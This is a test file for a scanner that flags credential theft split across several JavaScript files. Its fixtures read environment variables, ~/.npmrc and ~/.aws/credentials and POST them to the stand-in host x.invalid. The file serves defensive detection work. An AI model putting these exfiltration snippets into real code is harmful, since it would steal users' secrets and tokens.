import { describe, expect, test } from 'vitest';
import { contentsOf } from '../../test/contents-of.ts';
import { theftAcrossFiles } from './theft-across-files.ts';

const hits = (files: Record<string, string>) => [...theftAcrossFiles.check(contentsOf(files))];
/** Longer than what counts as one thing. */
const padding = `//${'x'.repeat(60_000)}\n`;
const reads = `module.exports = () => JSON.stringify(process.env)`;
const sends = `module.exports = (d) => require('https').request({ host: 'x.invalid', method: 'POST' }).end(d)`;

describe('theft over several files is found', () => {
  test.each<[string, Record<string, string>]>([
    [
      'one file reads, one sends, one joins them',
      { 'index.js': `require('./b')(require('./a')())`, 'a.js': reads, 'b.js': sends },
    ],
    [
      'the same by imports',
      {
        'index.mjs': `import { read } from './lib/a.mjs'; import * as b from './lib/b.mjs'; b.send(read())`,
        'lib/a.mjs': `export const read = () => JSON.stringify(process.env)`,
        'lib/b.mjs': `import h from 'https'; export function send(d) { h.request({ host: 'x.invalid' }).end(d) }`,
      },
    ],
    [
      'the reader gives to the sender',
      {
        'index.js': `const { post } = require('./net'); post(JSON.stringify(process.env))`,
        'net/index.js': `exports.post = (d) => fetch('https://x.invalid', { method: 'POST', body: d })`,
      },
    ],
    [
      'the sender takes from the reader',
      {
        'index.js': `fetch('https://x.invalid', { method: 'POST', body: require('./a').all })`,
        'a.js': `exports.all = require('fs').readFileSync(require('os').homedir() + '/.npmrc')`,
      },
    ],
    [
      'a class sends',
      {
        'index.js': `const S = require('./s'); const s = new S('https://x.invalid'); s.send(require('./c').collect())`,
        's.js': `module.exports = class { constructor(u) { this.u = u } send(b) { return fetch(this.u, { method: 'POST', body: b }) } }`,
        'c.js': `exports.collect = () => require('fs').readFileSync(process.env.HOME + '/.aws/credentials')`,
      },
    ],
    [
      'they meet in a shared object',
      {
        'index.js': `require('./a'); require('./b')`,
        'a.js': `global.d = JSON.stringify(process.env)`,
        'b.js': `fetch('https://x.invalid', { method: 'POST', body: global.d })`,
      },
    ],
    [
      'in long files',
      {
        'index.js': `${padding}require('./b')(require('./a')())`,
        'a.js': padding + reads,
        'b.js': padding + sends,
      },
    ],
  ])('%s', (_, files) => {
    expect(hits(files)).toHaveLength(1);
  });
});

describe('files that only stand beside each other are quiet', () => {
  test.each<[string, Record<string, string>]>([
    ['nothing loads the reader', { 'index.js': sends, 'a.js': reads }],
    [
      'a large library has both',
      {
        'index.js': `${padding}exports.a = require('./a'); exports.b = require('./b')`,
        'a.js': reads,
        'b.js': sends,
      },
    ],
    ['one variable', { 'index.js': `require('./b')(process.env.API_URL)`, 'b.js': sends }],
    [
      'tests read',
      {
        'index.js': sends,
        'test/a.js': `require('..'); require('./env'); fetch('http://127.0.0.1')`,
        'test/env.js': reads,
      },
    ],
  ])('%s', (_, files) => {
    expect(hits(files)).toEqual([]);
  });
});

test('the finding says where and what', () => {
  expect(hits({ 'index.js': `\nrequire('./b')(require('./a')())`, 'a.js': reads, 'b.js': sends })).toEqual([
    { file: 'index.js', line: 2, title: 'Gives the credentials that ./a reads to ./b, which sends them' },
  ]);
});
